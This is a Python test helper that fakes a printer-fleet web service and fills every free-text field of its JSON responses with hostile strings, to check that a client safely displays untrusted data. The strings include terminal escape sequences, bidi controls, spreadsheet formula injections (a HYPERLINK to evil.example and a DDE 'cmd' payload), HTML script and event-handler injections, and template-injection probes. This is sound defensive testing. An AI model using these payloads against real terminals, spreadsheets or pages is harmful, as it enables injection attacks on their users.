"""Texts that try to control a terminal, and a service that sends them in every text field."""

from __future__ import annotations

import json
from itertools import cycle
from typing import Any, Callable, Dict, Iterator, Mapping

from test.support.loopback import Answer, Asked
from test.support.operations import data_of

FORGED = "FORGED"
"""Part of every hostile text: what begins with it must not begin a line, cell or tag."""
HOSTILE: Mapping[str, str] = {
    "line ends": f"a\r\n{FORGED} line\n{FORGED}\v{FORGED}\f{FORGED}",
    "next line and separators": f"a\x85{FORGED}\u2028{FORGED}\u2029{FORGED}",
    "terminal escapes": f"\x1b[2J\x1b]0;{FORGED}\x07\x1b[31m\x08\x08\x00",
    "8-bit controls": f"\x9b31m\x9d0;{FORGED}\x9c\x90{FORGED}",
    "bidi controls": f"\u202e{FORGED}\u2066\u2069\u200f\u061c\u206f",
    "cut emoji": f"\ud83d{FORGED}\udc80",
    "formula": f'=HYPERLINK("http://evil.example/?{FORGED}","x")',
    "formula after white space": f"\t=cmd|' /C {FORGED}'!A0",
    "formula of other signs": f"@SUM(1)*{FORGED}",
    "formula after a line end": f"\r\n-2+3+{FORGED}",
    "script": f"</td></svg><script>{FORGED}()</script>",
    "attribute": f"\" onmouseover='{FORGED}()' x=\"'`",
    "style and comment": f"</style></title>--><img src=x onerror={FORGED}()>",
    "markup of rich": f"[bold red]{FORGED}[/] [link=http://evil.example]x[/link] :boom:",
    "template": "{{ 7*7 }} ${7*7} %s {0} {name}" + FORGED,
    "long": f"{FORGED} " + "x" * 5_000,
}
_FREE_TEXT = frozenset(
    (
        "alias",
        "name",
        "username",
        "first_name",
        "last_name",
        "email",
        "message",
        "material",
        "material_name",
        "note",
        "status",
        "display_name",
        "type",
        "type_label",
        "action",
        "user",
        "print_settings_name",
        "firmware_version",
        "manufacturer",
        "lot_number",
        "user_custom_label",
        "detail",
        "machine_type_id",
        "tank_type",
        "title",
    )
)
LISTINGS = ("printers", "prints", "events", "groups", "tanks", "cartridges")


def poisoned(value: Any, texts: Iterator[str]) -> Any:
    """Return JSON data with the next of ``texts`` for each text that people or printers choose."""
    if isinstance(value, list):
        return [poisoned(one, texts) for one in value]
    if not isinstance(value, dict):
        return value
    found = {
        name: next(texts) if name in _FREE_TEXT and isinstance(one, str) else poisoned(one, texts)
        for name, one in value.items()
    }
    if "serial" in value or "guid" in value:
        found[next(texts)[:100]] = next(texts)  # a field that the description does not have
    return found


def hostile_service(*texts: str) -> Callable[[Asked], Answer]:
    """Return what answers as the service would, with ``texts`` by turns wherever text may be."""
    turns = cycle(texts)
    pages: Dict[str, bytes] = {}
    for name in LISTINGS:
        page = poisoned(data_of(name), turns)
        if isinstance(page, dict):
            page.update(next=None, count=len(page["results"]))
        pages[name] = json.dumps(page).encode()
    printer = json.dumps(poisoned(data_of("printer"), turns)).encode()
    queue = json.dumps(poisoned(data_of("queue"), turns)).encode()

    def answer(asked: Asked) -> Answer:
        if asked.path.endswith("/o/token/"):
            return Answer(200, {"access_token": "a-token-of-a-test", "expires_in": 3600})
        parts = asked.path.strip("/").split("/")
        if "queue" in parts:
            return Answer(200, queue)
        if parts[-1] in pages:
            return Answer(200, pages[parts[-1]])
        if len(parts) == 4 and parts[2] == "printers" and parts[3] != "missing":
            return Answer(200, printer)
        return Answer(404, {"detail": next(turns)})

    return answer
